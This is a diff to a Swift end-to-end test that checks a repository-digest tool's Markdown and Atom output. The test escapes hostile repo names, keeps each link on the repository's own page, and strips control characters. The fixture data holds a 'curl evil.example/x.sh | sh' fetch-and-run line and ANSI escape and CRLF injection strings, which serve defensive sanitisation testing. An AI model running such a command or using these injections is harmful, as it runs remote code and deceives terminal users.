@@ -137,12 +137,16 @@ struct DigestEndToEndTests {
         #expect(wrapped.allSatisfy { $0.count <= 100 && ($0.hasPrefix("- [") || $0.hasPrefix("  ")) })
         let lines = result.stdout.replacingOccurrences(of: "\n  ", with: " ").split(separator: "\n", omittingEmptySubsequences: false).dropLast()
         #expect(lines.count == 6 && lines.allSatisfy { $0.hasPrefix("- [") })
-        // A name GitHub does not allow shows what it hides, and links to no other repo's page.
+        // A name GitHub does not allow shows what it hides, and links to its own page (the name
+        // GitHub sent, percent-encoded, as --json's url and open give it), never another's.
         let first = String(lines.first ?? "")
-        #expect(first.hasPrefix(#"- [mallory/evil\\u{1B}\[31mrepo]("# + server.baseURL + "/mallory/evil%5Cu%7B1B%7D%5B31mrepo) · ★ 6.7k · "), "\(first)")
+        #expect(first.hasPrefix(#"- [mallory/evil\\u{1B}\[31mrepo]("# + server.baseURL + "/mallory/evil%1B%5B31mrepo) · ★ 6.7k · "), "\(first)")
         #expect(first.hasSuffix("24 h · Rust — Harmless formatter screen wiped"), "\(first.debugDescription)")
         #expect(lines.contains("- [crlf-carl/safe-installer](\(server.baseURL)/crlf-carl/safe-installer) · ★ 404 · \\+404 ★ in 24 h · Shell — curl evil.example/x.sh \\| sh Safe, audited installer. hidden del nulend"))
         #expect(result.stdout.components(separatedBy: "](").count == 7, "one link per item")
+        let atom = try await sandbox.run(["--api-url", server.baseURL, "--limit", "6", "--format", "atom", "--offline"])
+        let evil = try parseFeed(atom.stdout).entries.first { $0.title.hasPrefix("mallory/") }
+        #expect(evil?.link == server.baseURL + "/mallory/evil%1B%5B31mrepo", "the Atom link is the same page: \(String(describing: evil))")
         #expect(!result.stdout.unicodeScalars.contains { ($0.value < 0x20 && $0 != "\n") || (0x7F...0x9F).contains($0.value) })
     }
 
